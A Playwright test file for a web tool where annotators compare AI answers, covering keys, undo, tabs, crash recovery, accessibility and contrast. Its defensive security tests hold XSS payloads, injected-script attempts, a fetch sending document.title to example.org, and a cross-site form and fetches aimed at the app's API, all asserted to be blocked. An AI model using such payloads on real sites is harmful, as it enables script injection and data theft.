"""The page in a real browser: Chromium, driven by Playwright; skipped, with a message, where there is none."""

from __future__ import annotations

import http.server
import json
import re
import threading
from collections.abc import Iterator
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from tests.browser import browser
from tests.labelling.servers import Server, write_samples
from tests.labelling.test_rendering import EVIL

sync_api = pytest.importorskip("playwright.sync_api", reason="no Playwright: pip install playwright")

__all__ = ["browser"]

Page = Any
SETTLED = 270
"""Milliseconds after which an item takes keys."""
KEY_DOWN = (
    "document.body.dispatchEvent(new KeyboardEvent('keydown', {key: '1', code: 'Digit1', bubbles: true}))"
)
VIEW = {"width": 1280, "height": 800}
PHONE = {"viewport": {"width": 375, "height": 740}, "is_mobile": True, "has_touch": True}


def rows_of(path: Path, rows: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return path


def conversation(turns: int) -> list[dict[str, str]]:
    said = [
        [
            {"role": "user", "content": f"question {number}"},
            {"role": "assistant", "content": f"reply {number} " * 40},
        ]
        for number in range(turns)
    ]
    return [*(turn for pair in said for turn in pair), {"role": "user", "content": "the last question"}]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """Pairs for as many annotators as there are tests; every test is an annotator of its own."""
    folder = tmp_path_factory.mktemp("browser")
    code = "Look:\n\n```python\n" + "x = 1  # " + "long " * 80 + "\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    rows = [
        {"id": "code", "prompt": "Write code.", "completions": [code, "No."]},
        {"id": "long", "prompt": conversation(8), "completions": ["yes " * 300, "no"]},
        *(
            {
                "id": f"row{number}",
                "prompt": f"Prompt {number}",
                "completions": [f"one {number}", f"two {number}"],
            }
            for number in range(30)
        ),
    ]
    (folder / "guide.md").write_text("# Be fair\n\n" + "\n\n".join(EVIL), encoding="utf-8")
    flags = ["--overlap", "40", "--repeat-share", "0", "--guidelines", str(folder / "guide.md")]
    with Server(rows_of(folder / "samples.jsonl", rows), folder / "out.jsonl", *flags) as started:
        yield started


class Visits:
    """Pages of a server in a browser, and what went wrong on them."""

    def __init__(self, browser: Any, server: Server) -> None:
        self._browser = browser
        self.server = server
        self.base = f"http://127.0.0.1:{server.port}"
        self.errors: list[str] = []
        self.requests: list[str] = []
        self._contexts: list[Any] = []

    def context(self, **settings: Any) -> Any:
        """A browser that came by a link."""
        made = self._browser.new_context(**{"viewport": VIEW, **settings})
        made.set_default_timeout(60_000)
        self._contexts.append(made)
        cookie = {"name": f"likelier-{self.server.port}", "value": self.server.cookie(), "url": self.base}
        made.add_cookies([{**cookie, "httpOnly": True, "sameSite": "Strict"}])
        return made

    def page(self, name: str | None = None, *, context: Any = None, path: str = "/", **settings: Any) -> Page:
        page = (context or self.context(**settings)).new_page()
        page.on(
            "console", lambda message: self.errors.append(message.text) if message.type == "error" else None
        )
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.on("dialog", lambda dialog: self.errors.append(f"dialog {dialog.message}") or dialog.dismiss())
        page.on("request", lambda request: self.requests.append(request.url))
        page.goto(self.base + path)
        if name is not None:
            page.fill("#name", name)
            page.keyboard.press("Enter")
            shown(page)
        return page

    def close(self) -> None:
        for context in self._contexts:
            context.close()


@pytest.fixture
def visits(browser: Any, server: Server) -> Iterator[Visits]:
    made = Visits(browser, server)
    yield made
    made.close()
    assert made.errors == []
    assert [url for url in made.requests if not url.startswith(made.base)] == []


def shown(page: Page) -> None:
    page.wait_for_selector("#work:not([hidden])")


def until(page: Page, true: str) -> None:
    """Waits for an expression to become true; Playwright's own way needs `eval`, which the page forbids."""
    for _ in range(2400):
        if page.evaluate(true):
            return
        page.wait_for_timeout(25)
    raise AssertionError(f"never true: {true}\n{page.inner_text('body')[:800]}")


def done(page: Page) -> int:
    return int(page.inner_text("#progress").split(" ")[0])


def until_done(page: Page, count: int) -> None:
    until(page, f"document.getElementById('progress').textContent.startsWith('{count} done')")


def press(page: Page, key: str, *, answers: bool = True) -> None:
    """A key on a settled item; waits until it has been taken as an answer, or for a moment if it must not be."""
    before = done(page)
    until(page, f"performance.now() - (window.settledFrom ??= performance.now()) > {SETTLED}")
    page.keyboard.press(key)
    if answers:
        until_done(page, before + 1)
        page.evaluate("window.settledFrom = undefined")
    else:
        page.wait_for_timeout(60)
        assert done(page) == before, f"{key} has answered"


def answers_of(server: Server, name: str) -> list[dict[str, Any]]:
    """What the store has of an annotator, by way of the export."""
    client = server.client()
    assert client.post("/api/export", {})[0] == 200
    client.close()
    return [
        row for row in server.rows(".events.jsonl") if row["annotator"] == name and row["kind"] != "shown"
    ]


def places(server: Server, row: dict[str, Any]) -> list[list[int]]:
    """An answer's ranking in terms of places."""
    order = next(one["order"] for one in server.rows(".events.jsonl") if one["showing"] == row["showing"])
    return [sorted(order.index(index) for index in group) for group in row["ranking"]]


def test_the_link_opens_the_page_and_leaves_no_token_behind(browser: Any, server: Server) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(server.links[-1])
    page.wait_for_url(f"http://127.0.0.1:{server.port}/")
    assert page.is_visible("#sign-in")
    (cookie,) = context.cookies()
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Strict", "/")
    assert page.evaluate("document.cookie") == ""
    page.go_back()
    assert "token" not in page.url
    context.close()


def test_every_key_says_what_is_on_its_button(visits: Visits) -> None:
    page = visits.page("keys")
    for key in ("1", "2", "ArrowLeft", "ArrowRight", "t", "b"):
        press(page, key)
    said = answers_of(visits.server, "keys")
    assert [places(visits.server, row) for row in said] == [
        [[0], [1]], [[1], [0]], [[0], [1]], [[1], [0]], [[0, 1]], [[0, 1]],
    ]  # fmt: skip
    assert [row["verdict"] for row in said] == ["preference"] * 4 + ["tie", "both_bad"]
    shown_keys = page.eval_on_selector_all("#actions button kbd", "all => all.map(kbd => kbd.textContent)")
    assert shown_keys == ["1", "t", "b", "2", "s", "u", "f"]
    for name in ("Answer 1", "Tie", "Both bad", "Answer 2"):
        before = done(page)
        page.wait_for_timeout(SETTLED)
        page.get_by_role("button", name=name).click()
        until_done(page, before + 1)


def test_keys_are_ignored_while_text_is_typed_or_composed_with_modifiers_and_on_repeat(
    visits: Visits,
) -> None:
    page = visits.page("typist")
    for key in ("Control+1", "Alt+1", "Meta+1", "Shift+1", "Control+t", "Shift+B"):
        press(page, key, answers=False)
    for event in ("isComposing: true", "keyCode: 229", "repeat: true"):
        page.evaluate(KEY_DOWN.replace("}", f", {event}}}"))
    press(page, "F9", answers=False)
    press(page, "e", answers=False)
    assert page.evaluate("document.activeElement.id") == "reason"
    page.keyboard.type("1 2 t b s u f h m e")
    assert page.input_value("#reason") == "1 2 t b s u f h m e"
    page.focus("#edit")
    page.keyboard.type("12tb")
    # Composed, as an input method does.
    devtools = page.context.new_cdp_session(page)
    devtools.send("Input.imeSetComposition", {"text": "1", "selectionStart": 1, "selectionEnd": 1})
    devtools.send("Input.insertText", {"text": "一"})
    press(page, "ArrowLeft", answers=False)
    assert page.input_value("#edit") == "12tb一"
    page.keyboard.press("Escape")
    assert page.evaluate("document.activeElement.id") == "question"
    page.wait_for_timeout(SETTLED)
    page.keyboard.down("2")
    until_done(page, 1)
    for _ in range(3):
        page.wait_for_timeout(SETTLED)
        page.keyboard.down("2")  # held: the browser repeats it
    page.keyboard.up("2")
    (row,) = answers_of(visits.server, "typist")
    assert (row["reason"], row["edit"]) == ("1 2 t b s u f h m e", "12tb一")


def test_a_key_pressed_twice_in_haste_answers_once(visits: Visits) -> None:
    page = visits.page("hasty")
    page.wait_for_timeout(SETTLED)
    page.evaluate(f"for (let n = 0; n < 5; n++) {KEY_DOWN}")
    until_done(page, 1)
    page.keyboard.press("1")
    page.wait_for_timeout(150)
    assert len(answers_of(visits.server, "hasty")) == 1


def test_skip_flag_guidelines_and_undo(visits: Visits) -> None:
    page = visits.page("skipper")
    first = page.inner_text("#answers")
    press(page, "s", answers=False)
    page.keyboard.press("2")
    page.keyboard.press("1")
    page.keyboard.press("3")
    page.fill("#skip-note", "a name")
    page.keyboard.press("Enter")
    until_done(page, 1)
    assert page.inner_text("#answers") != first
    press(page, "f", answers=False)
    page.keyboard.type("odd")
    page.keyboard.press("Enter")
    until(page, "document.getElementById('live').textContent === 'Flagged.'")
    press(page, "h", answers=False)
    assert page.is_visible("text=Be fair")
    page.keyboard.press("1")
    page.keyboard.press("Escape")
    page.wait_for_timeout(100)
    press(page, "s", answers=False)
    page.keyboard.press("Escape")
    page.wait_for_timeout(100)
    page.keyboard.press("u")
    until_done(page, 0)
    assert page.inner_text("#answers") == first
    kinds = [(row["kind"], row.get("reason")) for row in answers_of(visits.server, "skipper")]
    assert kinds == [("answer", "harmful or private: a name"), ("flag", "odd"), ("undo", None)]


def test_what_was_written_survives_a_reload_and_an_undo(visits: Visits) -> None:
    page = visits.page("writer")
    press(page, "e", answers=False)
    page.fill("#reason", "because")
    page.get_by_role("button", name="Start from answer 1").click()
    started = page.input_value("#edit")
    assert started.startswith(("Look:", "No."))
    page.fill("#edit", "A better answer.")
    page.reload()
    shown(page)
    assert page.input_value("#edit") == "A better answer."
    page.focus("#question")
    press(page, "1")
    assert page.input_value("#edit") == ""
    page.keyboard.press("u")
    until(page, "document.getElementById('edit').value === 'A better answer.'")
    press(page, "2")
    answers_of(visits.server, "writer")
    (better,) = [row for row in visits.server.rows(".sft.jsonl") if row["labeller"] == "human writer"]
    assert (better["completion"], better["reason"]) == ("A better answer.", "because")


def test_the_two_answers_have_the_same_size_and_places(visits: Visits) -> None:
    page = visits.page("measurer")
    for _ in range(3):
        left, right = (one.bounding_box() for one in page.query_selector_all(".answer"))
        assert (left["y"], left["width"], left["height"]) == (right["y"], right["width"], right["height"])
        press(page, "t")


def test_of_a_long_conversation_the_end_is_in_view_and_the_beginning_folded(visits: Visits) -> None:
    page = visits.page("reader")
    press(page, "1")
    assert page.inner_text(".earlier > summary") == "13 earlier turns"
    assert not page.is_visible("text=question 0")
    box, last = (
        page.query_selector(".prompt").bounding_box(),
        page.query_selector("#prompt > :last-child").bounding_box(),
    )
    assert last["y"] + last["height"] <= box["y"] + box["height"]
    page.click(".earlier > summary")
    assert page.is_visible("text=question 0")


def test_scripts_in_answers_prompts_and_notes_do_nothing(browser: Any, tmp_path: Path) -> None:
    texts = [text for text in EVIL if "\0" not in text]  # which no row may hold
    rows = [
        {
            "id": EVIL[0],
            "prompt": "\n\n".join(texts),
            "completions": ["\n\n".join(texts), "\n\n".join(texts[::-1])],
        }
    ]
    samples = rows_of(tmp_path / "samples.jsonl", rows)
    with Server(samples, tmp_path / "out.jsonl", "--overlap", "2") as server:
        visits = Visits(browser, server)
        for name in ("<img src=x onerror=alert(1)>", '"><script>alert(1)</script>'):
            page = visits.page(name)
            press(page, "m", answers=False)
            press(page, "f", answers=False)
            page.keyboard.type("<script>alert(1)</script>")
            page.keyboard.press("Enter")
            until(page, "document.getElementById('live').textContent === 'Flagged.'")
            page.wait_for_timeout(SETTLED)
            page.keyboard.press("1")
            page.wait_for_selector("#rest:not([hidden])")
        page.goto(f"{visits.base}/results")
        assert "<script>alert(1)</script>" in page.inner_text("main")
        page.click("td a")
        shown(page)
        page.wait_for_timeout(200)
        assert visits.errors == []
        assert [url for url in visits.requests if not url.startswith(visits.base)] == []
        # And were one to slip through, the policy stops it.
        for attempt in (
            "document.body.innerHTML = '<img src=x onerror=\"window.hacked = 1\">'",
            "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.hacked = 1'}))",
            "document.body.setAttribute('onclick', 'window.hacked = 1'); document.body.click()",
            "fetch('https://example.org/?' + document.title)",
        ):
            page.evaluate(f"async () => {{ try {{ {attempt} }} catch {{}} }}")
        page.wait_for_timeout(100)
        assert page.evaluate("window.hacked") is None
        visits.close()


def test_another_site_in_the_same_browser_changes_nothing(visits: Visits) -> None:
    """A page on another port is of the same site, so that the browser sends it the cookie: its origin gives it away."""
    context = visits.context()
    visits.page("victim", context=context)
    before = len(answers_of(visits.server, "victim"))
    attack = f"""<!doctype html><iframe src="{visits.base}/"></iframe><iframe name="frame"></iframe>
      <form method="post" enctype="text/plain" target="frame" action="{visits.base}/api/export">
      <input name='{{"a":"' value='"}}'></form>"""
    with other_site(attack) as address:
        page = context.new_page()
        page.goto(address)
        page.evaluate("document.forms[0].submit()")
        assert page.evaluate(TRIES, visits.base) == ["blocked"] * 4
        page.wait_for_timeout(200)
        assert [frame.url for frame in page.frames if frame.query_selector("#work, .results")] == []
    assert len(answers_of(visits.server, "victim")) == before
    assert answers_of(visits.server, "evil") == []


TRIES = """
async (base) => {
  const ask = JSON.stringify({annotator: "evil", tab: "t"});
  const skip = {annotator: "victim", tab: "t", key: "k", showing: "s", version: 0, verdict: "skip", ranking: []};
  const json = {"Content-Type": "application/json"};
  const tries = [
    fetch(base + "/api/next", {method: "POST", body: ask, mode: "no-cors", credentials: "include"}),
    fetch(base + "/api/next", {method: "POST", body: ask, headers: json, credentials: "include"}),
    fetch(base + "/api/answer", {method: "POST", body: JSON.stringify(skip), headers: json, credentials: "include"}),
    fetch(base + "/results", {credentials: "include"}),
  ];
  const told = await Promise.allSettled(tries);
  return told.map((one) => (one.status === "fulfilled" ? `${one.value.type} ${one.value.status}` : "blocked"));
}
"""


class other_site:
    """A page of somebody else's on this machine."""

    def __init__(self, html: str) -> None:
        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(html.encode())

            def log_message(self, format: str, *args: Any) -> None: ...

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._server.serve_forever)

    def __enter__(self) -> str:
        self._thread.start()
        return f"http://127.0.0.1:{self._server.server_address[1]}/"

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


def test_two_tabs_show_different_items_and_a_stale_one_is_told(visits: Visits) -> None:
    context = visits.context()
    one = visits.page("tabs", context=context)
    two = visits.page("tabs", context=context)
    assert one.inner_text("#answers") != two.inner_text("#answers")
    # The same tab twice, as a browser's "duplicate" makes it: both show one item.
    name = one.evaluate("sessionStorage.getItem('likelier-tab')")
    two.evaluate(f"sessionStorage.setItem('likelier-tab', '{name}')")
    two.reload()
    shown(two)
    assert one.inner_text("#answers") == two.inner_text("#answers")
    press(one, "1")
    two.wait_for_timeout(SETTLED)
    two.keyboard.press("2")
    two.wait_for_selector("#notice:not([hidden])")
    assert "answered in another tab" in two.inner_text("#notice")
    current = json.dumps(one.inner_text("#answers"))
    until(two, f"document.getElementById('answers').innerText === {current}")
    assert len(answers_of(visits.server, "tabs")) == 1
    visits.errors[:] = [error for error in visits.errors if "409" not in error]


def test_a_killed_server_loses_nothing_that_was_pressed(browser: Any, tmp_path: Path) -> None:
    samples = write_samples(tmp_path / "samples.jsonl", 5)
    with Server(samples, tmp_path / "out.jsonl", "--repeat-share", "0") as server:
        visits = Visits(browser, server)
        page = visits.page("survivor")
        press(page, "1")
        server.kill()
        page.wait_for_timeout(SETTLED)
        page.keyboard.press("2")
        page.wait_for_selector("#notice:not([hidden])")
        assert "Not saved yet" in page.inner_text("#notice")
        server.start()
        until_done(page, 2)
        assert not page.is_visible("#notice")
        # Closed while it was waiting: what was pressed is sent by the next page.
        server.kill()
        page.wait_for_timeout(SETTLED)
        page.keyboard.press("t")
        page.wait_for_selector("#notice:not([hidden])")
        context = page.context
        page.close()
        server.start()
        page = visits.page("survivor", context=context)
        assert "was sent" in page.inner_text("#notice")
        assert done(page) == 3
        visits.close()
        server.stop()
        assert [row["kind"] for row in server.rows(".events.jsonl")] == ["shown", "answer"] * 3 + ["shown"]


def test_ranking_by_keys(browser: Any, tmp_path: Path) -> None:
    samples = write_samples(tmp_path / "samples.jsonl", 3, answers=4)
    with Server(samples, tmp_path / "out.jsonl", "--rank", "--repeat-share", "0") as server:
        visits = Visits(browser, server)
        page = visits.page("ranker")
        order = [
            int(re.findall(r"answer (\d)", one.inner_text())[0]) for one in page.query_selector_all(".answer")
        ]
        for key in ("3", "3", "2", "Backspace", "1", "t", "4", "5"):
            page.keyboard.press(key)
        press(page, "Enter", answers=False)
        assert page.inner_text("#ranking") == "3 > 1 = 4 > …"
        page.keyboard.press("2")
        assert page.inner_text("#ranking").startswith("3 > 1 = 4 > 2")
        ranks = page.eval_on_selector_all(".rank", "all => all.map(one => one.textContent)")
        assert ranks == ["tied rank 2", "rank 4", "rank 1", "tied rank 2"]
        press(page, "Enter")
        press(page, "b")
        for name in ("1 Next best", "2 Next best", "3 Next best", "4 Next best", "Enter Save"):
            page.wait_for_timeout(80)
            page.get_by_role("button", name=name, exact=True).click()
        page.wait_for_selector("#rest:not([hidden])")
        assert visits.errors == []
        visits.close()
        server.stop()
        rows = server.rows()
        assert rows[0]["ranking"] == [[order[2]], sorted([order[0], order[3]]), [order[1]]]
        assert sorted(map(len, rows[1]["ranking"])) == [4]
        assert list(map(len, rows[2]["ranking"])) == [1, 1, 1, 1]


def test_strength_by_keys(browser: Any, tmp_path: Path) -> None:
    samples = write_samples(tmp_path / "samples.jsonl", 4)
    with Server(samples, tmp_path / "out.jsonl", "--strength", "--repeat-share", "0") as server:
        visits = Visits(browser, server)
        page = visits.page("strong")
        for first, second in (("1", "3"), ("2", "Enter"), ("ArrowRight", "1")):
            press(page, first, answers=False)
            page.keyboard.press("Escape")
            page.wait_for_timeout(100)
            press(page, first, answers=False)
            press(page, second)
        press(page, "t")
        visits.close()
        server.stop()
        said = [row for row in server.rows(".events.jsonl") if row["kind"] == "answer"]
        assert [row.get("strength") for row in said] == [3, None, 1, None]


@pytest.mark.parametrize("path", ["/", "/results"])
def test_a_phones_screen(visits: Visits, path: str) -> None:
    page = visits.page("phone" if path == "/" else None, path=path, **PHONE)
    for _ in range(3):
        assert page.evaluate("document.documentElement.scrollWidth") == 375
        small = page.eval_on_selector_all(
            "button",
            "all => all.map(one => one.getBoundingClientRect()).filter(box => box.width && box.height < 36).length",
        )
        assert small == 0
        if path == "/":
            widths = {round(one.bounding_box()["width"]) for one in page.query_selector_all(".answer")}
            assert len(widths) == 1
            before = done(page)
            page.wait_for_timeout(SETTLED)
            page.get_by_role("button", name="Answer 2").tap()
            until_done(page, before + 1)


UNCOVERED = """
(() => {
  const bar = document.getElementById("actions");
  const one = document.activeElement;
  return bar.contains(one) || one.getBoundingClientRect().top < bar.getBoundingClientRect().top;
})()
"""


def test_by_keyboard_alone(visits: Visits) -> None:
    page = visits.page()
    for _ in range(8):
        page.keyboard.press("Shift+Tab")
        if page.evaluate("document.activeElement.className") == "skip-link":
            break
    assert page.query_selector(".skip-link").bounding_box()["y"] >= 0, "it is seen when it has the focus"
    page.fill("#name", "tabber")
    page.keyboard.press("Enter")
    shown(page)
    assert page.evaluate("document.activeElement.id") == "question"
    seen = []
    for _ in range(20):
        page.keyboard.press("Tab")
        seen.append(page.evaluate("document.activeElement.textContent.trim().replace(/\\s+/g, ' ')"))
        style = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
        assert style != "none", f"no focus is seen on {seen[-1]}"
        assert page.evaluate(UNCOVERED), f"{seen[-1]} hides behind the bar"
        if seen[-1] == "f Flag":
            break
    for wanted in ("1 Answer 1", "t Tie", "b Both bad", "2 Answer 2", "s Skip", "f Flag"):
        assert wanted in seen
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.closest('dialog')?.id") == "skip-dialog"
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.value") == "skip"
    page.keyboard.press("Enter")
    until(page, "document.getElementById('live').textContent.startsWith('Skipped.')")


def test_with_a_screen_reader(visits: Visits) -> None:
    """The tree that a screen reader reads: names, roles, headings in order, what is announced."""
    page = visits.page("listener")
    tree = page.locator("body").aria_snapshot()
    for part in ("main:", "- banner:", 'navigation "Page"', 'heading "Which answer is better?" [level=1]',
                 'region "Prompt"', 'heading "Prompt" [level=2]', 'article "Answer 1"', 'article "Answer 2"',
                 'heading "Answer 1" [level=2]', 'group "Your answer"', 'progressbar "Progress"',
                 'button "1 Answer 1"', 'button "t Tie"', "status"):  # fmt: skip
        assert part in tree, f"{part} is not in\n{tree}"
    unnamed = page.eval_on_selector_all(
        "button, a, input, textarea",
        "all => all.filter(one => !(one.textContent.trim() || one.labels?.length || one.ariaLabel)).map(one => one.id)",
    )
    assert unnamed == []
    assert page.get_attribute("html", "lang") == "en"
    press(page, "1")
    assert page.inner_text("#live").startswith("Saved. Which answer is better?")
    assert page.evaluate("document.activeElement.id") == "question"
    levels = page.eval_on_selector_all(
        "#work h1, #work h2, #work h3, #work h4", "all => all.map(one => Number(one.tagName[1]))"
    )
    assert all(after - before <= 1 for before, after in pairwise(levels))


CONTRAST = """
(selectors) => {
  const rgb = (text) => text.match(/[\\d.]+/g).map(Number);
  const light = (channels) => {
    const linear = (c) => (c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4);
    const [r, g, b] = channels.slice(0, 3).map((c) => linear(c / 255));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const ground = (one) => {
    for (; one; one = one.parentElement) {
      const found = rgb(getComputedStyle(one).backgroundColor);
      if (found.length === 3 || found[3] > 0) return found;
    }
    return [255, 255, 255];
  };
  return selectors.map((selector) => {
    const one = document.querySelector(selector);
    const pair = [light(rgb(getComputedStyle(one).color)), light(ground(one))].sort((a, b) => b - a);
    return [selector, (pair[0] + 0.05) / (pair[1] + 0.05)];
  });
}
"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_light_and_dark_can_be_read(visits: Visits, scheme: str) -> None:
    page = visits.page(f"eyes {scheme}", color_scheme=scheme, reduced_motion="reduce")
    ground = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert (sum(map(int, re.findall(r"\d+", ground)[:3])) > 382) == (scheme == "light")
    selectors = ["#question", "#progress", "#who", "#prompt-heading", ".answer .text", ".answer h2", "pre code", "th",
                 ".language", "#verdicts .side", "#verdicts button:nth-child(2)", "#skip", ".more summary"]  # fmt: skip
    for selector, ratio in page.evaluate(CONTRAST, selectors):
        assert ratio >= 4.5, f"{selector} in {scheme}: {ratio:.2f}"
    assert page.evaluate("getComputedStyle(document.querySelector('#bar span')).transitionProperty") == "none"
    page.goto(f"{visits.base}/results")
    for selector, ratio in page.evaluate(CONTRAST, ["h1", ".about", ".lead", "thead th", "td", "#write"]):
        assert ratio >= 4.5, f"{selector} in {scheme}: {ratio:.2f}"


def test_results_adjudication_and_files(browser: Any, tmp_path: Path) -> None:
    samples = write_samples(tmp_path / "samples.jsonl", 2)
    with Server(samples, tmp_path / "out.jsonl", "--overlap", "2", "--annotators", "Ann", "--annotators", "Ben",
                "--annotators", "Eve", "--repeat-share", "0") as server:  # fmt: skip
        visits = Visits(browser, server)
        for name, text in (("Ann", "answer 0"), ("Ben", "answer 1")):
            page = visits.page()
            page.get_by_role("button", name=name).click()
            shown(page)
            for number in (1, 2):
                page.wait_for_timeout(SETTLED)
                page.keyboard.press("1" if text in page.inner_text(".answer:first-child") else "2")
                until_done(page, number)
            page.wait_for_selector("#rest:not([hidden])")
        page = visits.page(path="/results")
        assert page.inner_text(".lead") == "4 of 4 labels; 2 of 2 items have all of theirs."
        assert "0 % " in page.inner_text("tbody tr:first-child")
        assert page.locator("text=undecided").count() == 2
        page.get_by_role("link", name="Decide row row1").click()
        page.get_by_role("button", name="Eve").click()
        shown(page)
        assert page.inner_text("#votes") == "You decide. Labels so far: 1 × 1 > 2, 1 × 2 > 1"
        page.wait_for_timeout(SETTLED)
        page.keyboard.press("t")
        page.wait_for_selector("text=Decided")
        page.click("#rest a")
        page.click("#write")
        until(page, "document.getElementById('written').textContent.startsWith('1 preferences')")
        assert "no majority: 1" in page.inner_text("#written")
        (row,) = server.rows()
        assert (row["id"], row["winner"], row["labeller"], row["adjudicated"]) == (
            "row1",
            "tie",
            "human Eve",
            True,
        )
        assert visits.errors == []
        visits.close()
